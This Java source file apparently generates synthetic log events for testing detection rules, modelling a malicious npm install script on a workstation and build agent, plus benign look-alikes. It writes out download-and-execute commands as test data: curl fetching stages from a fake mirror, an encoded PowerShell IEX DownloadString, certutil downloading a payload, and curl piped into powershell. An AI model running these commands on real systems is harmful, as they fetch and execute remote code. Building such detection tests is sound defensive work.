package io.sigscan.cli.generate;

import java.nio.charset.StandardCharsets;
import java.util.Base64;
import java.util.List;

/**
 * A malicious npm dependency's install script, as it plays out on a developer workstation and
 * then on a build agent: npm and node spawning shells that download and run a second stage.
 * Also the near misses a careless rule would flag: a look-alike {@code mynode.exe} and a
 * renamed {@code powershell.exe.bak}.
 */
final class CompromiseStory {

    private static final String STAGER = "http://cdn.npm-mirror.example.net/pkg/axios-helper/";
    private static final String NODE_INSTALL = "\"C:\\Program Files\\nodejs\\node.exe\" node_modules\\axios-helper\\install.js";
    private static final String NPM_INSTALL = "\"C:\\Program Files\\nodejs\\npm.cmd\" install";

    private CompromiseStory() {
    }

    /** Every step of the story, near misses included, in the order they happen. */
    static List<Launch> steps() {
        Host workstation = Fleet.COMPROMISED_WORKSTATION;
        Host agent = Fleet.COMPROMISED_BUILD_AGENT;
        String encoded = encodedCommand("IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.77/s.ps1')");
        // Shapes cycle flat Sysmon, Security 4688, nested Sysmon by position, so each rule of the
        // story fires in flat Sysmon at least once and in the other shapes too.
        return List.of(
                launch(workstation, Programs.NPM_CMD, NPM_INSTALL, Programs.CMD,
                        "C:\\Windows\\system32\\cmd.exe /d /s /c \"curl -s -o %TEMP%\\setup.js " + STAGER + "setup.js\""),
                launch(workstation, Programs.NODE, NODE_INSTALL, Programs.POWERSHELL,
                        "powershell.exe -NoProfile -WindowStyle Hidden -enc " + encoded),
                launch(workstation, Programs.POWERSHELL, "powershell.exe -NoProfile -WindowStyle Hidden -enc " + encoded,
                        Programs.CERTUTIL, "certutil.exe -urlcache -split -f http://203.0.113.77/p.bin %TEMP%\\p.bin"),
                launch(workstation, Programs.NODE, NODE_INSTALL, Programs.CMD,
                        "C:\\Windows\\system32\\cmd.exe /c \"curl -s " + STAGER + "stage2.txt | powershell -\""),
                launch(workstation, Programs.MY_NODE, "C:\\tools\\mynode.exe serve --port 8080", Programs.POWERSHELL,
                        "powershell.exe -NoProfile -Command Get-NetTCPConnection -LocalPort 8080"),
                launch(workstation, Programs.NODE, "\"C:\\Program Files\\nodejs\\node.exe\" scripts\\backup.js",
                        Programs.POWERSHELL_BACKUP, "C:\\Users\\Public\\powershell.exe.bak -File restore.ps1"),
                launch(agent, Programs.NPM_CMD, "\"C:\\Program Files\\nodejs\\npm.cmd\" ci", Programs.POWERSHELL,
                        "powershell.exe -NoProfile -NonInteractive -enc " + encoded),
                launch(agent, Programs.NODE, NODE_INSTALL, Programs.CMD,
                        "C:\\Windows\\system32\\cmd.exe /c \"curl -s " + STAGER + "stage2.txt | powershell -\""),
                launch(agent, Programs.CMD, "C:\\Windows\\system32\\cmd.exe /c whoami /all > %TEMP%\\o.txt",
                        Programs.WHOAMI, "whoami /all"));
    }

    private static Launch launch(Host host, Program parent, String parentCommandLine, Program child, String commandLine) {
        return new Launch(host, host.user(), parent, parentCommandLine, child, commandLine,
                host.buildAgent() ? "C:\\agent\\_work\\12\\s\\" : "C:\\src\\webapp\\", "Medium");
    }

    /** What PowerShell's {@code -EncodedCommand} expects: base64 of the UTF-16LE script. */
    private static String encodedCommand(String script) {
        return Base64.getEncoder().encodeToString(script.getBytes(StandardCharsets.UTF_16LE));
    }
}
